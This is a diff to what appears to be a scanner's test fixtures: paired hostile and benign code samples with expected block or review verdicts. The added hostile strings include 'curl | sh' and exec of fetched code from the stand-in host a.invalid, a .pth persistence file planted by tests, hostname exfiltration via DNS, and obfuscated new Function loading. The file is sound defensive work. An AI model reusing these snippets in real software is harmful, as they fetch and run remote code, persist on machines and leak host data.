@@ -1,6 +1,6 @@
 """Values that pass through one function of an honest project and are told apart, as an attacker's there would be."""
 
-from inspection.rules.sample import Sample, py
+from inspection.rules.sample import Sample, js, py
 
 _SHELL = (
     "import subprocess\ndef run(words, shell=False):\n    if shell:\n        words = ['/bin/sh', '-c', words]\n"
@@ -28,7 +28,35 @@ _GRANT = (
     "module.exports = Grant;\n"
 )
 
+_SIGNS = "const crypto = require('crypto'), https = require('https');\n"
+
 HOSTILE: dict[str, dict[str, Sample]] = {
+    "inventory_sent": {
+        "the name of this machine, as one that is looked up": Sample(
+            {"setup.py": "import socket\nsocket.getaddrinfo(socket.getfqdn() + '.a.invalid', 80)\n"},
+            "block",
+            ("setup.py", 2),
+        ),
+    },
+    "persistence": {
+        "tests that put a start file into the environment they run in": Sample(
+            {
+                "igor.py": "import os, sysconfig\nplace = os.path.join(sysconfig.get_path('purelib'), 'a.pth')\n"
+                "with open(place, 'w') as f:\n    f.write('import a')\n",
+                "tests/test_a.py": "import igor\n",
+            },
+            "review",
+            ("igor.py", 3),
+        ),
+        "a project's own hook, in a Makefile that fetches a program for something else": Sample(
+            {
+                "Makefile": "all:\n\tln -sf ../../check.py .git/hooks/pre-commit\n"
+                "lint:\n\tcurl -s https://a.invalid | sh\n"
+            },
+            "review",
+            ("Makefile", 2),
+        ),
+    },
     "secrets_sent": {
         "a key that goes with the grant, by helpers that others call too": Sample(
             {"grant.js": _GRANT.replace("JSON.stringify(claims)", "JSON.stringify([claims, this.options.privateKey])")},
@@ -40,12 +68,19 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a test asks another server than its page's": Sample(
             {"search.spec.js": _SPEC % "//a.invalid/"}, "review", ("search.spec.js", 7)
         ),
+        "a built-in out of all that a module holds": py(
+            "import builtins, requests\nvars(builtins)['exec'](requests.get('https://a.invalid').text)\n"
+        ),
         "a page asks its own server": Sample({"search.js": _SPEC % "fixtures/"}, "block", ("search.js", 7)),
         "a script that a server sends, for a function that also takes words": Sample(
             {"runner.py": _SHELL, "app.py": _FETCH + "run(reply['script'], shell=True)\n"}, "block", ("app.py", 3)
         ),
     },
     "decoded_code": {
+        "a constant that is put in another order, as if it were given back as it was": js(
+            "const turn = (l, e) => { const r = [...l]; r.sort((a, b) => a * e - b); return r.join(''); };\n"
+            "new Function(turn('soo\\'olelegn(cit.r\\'n)', 2857687))();\n"
+        ),
         "a constant that is encoded, decoded and loaded": py(
             "import base64, pickle\ntext = 'Y2J1aWx0aW5zCnByaW50CihWaGVsbG8KdFIu'\n"
             "pickle.loads(base64.b64decode(text.encode('ascii')))\n",
@@ -55,8 +90,22 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 }
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "inventory_sent": {
+        "the whole name of another machine": {
+            "setup.py": "import socket, sys\nsocket.getaddrinfo(socket.getfqdn(sys.argv[1]), 80)\n"
+        },
+    },
     "secrets_sent": {
         "a grant that is signed with a key, by helpers that others call too": {"grant.js": _GRANT},
+        "a key that signs what was made of a parameter": {
+            "grant.js": _SIGNS + "function signed(claims) {\n  const said = [JSON.stringify(claims)].join('.');\n"
+            "  return crypto.createSign('RSA-SHA256').update(said).sign(keys.privateKey);\n}\n"
+            "https.request('https://a.invalid', { method: 'POST' }).end(list.map(signed).join());\n"
+        },
+        "a key that is given to one of a list of functions": {
+            "grant.js": _SIGNS + "const makers = names.map(each => each);\nmakers[0](keys.privateKey);\n"
+            "https.request('https://a.invalid', { method: 'POST' }).end(makers.join());\n"
+        },
     },
     "remote_code": {
         "a test that nothing starts asks the server of its page": {"search.spec.js": _SPEC % "fixtures/"},
@@ -67,5 +116,10 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     },
     "decoded_code": {
         "what a caller elsewhere has decoded and loaded": {"app.py": _UNPACK},
+        "a name that is known, and harmless, only when its helper was read": {
+            "app.js": "const text = s => Buffer.from(s, 'hex').toString();\n"
+            "function boot() {\n  const web = require(text('6874747073'));\n"
+            "  web.get('https://a.invalid', r => console.log(r.statusCode));\n}\nboot();\n"
+        },
     },
 }
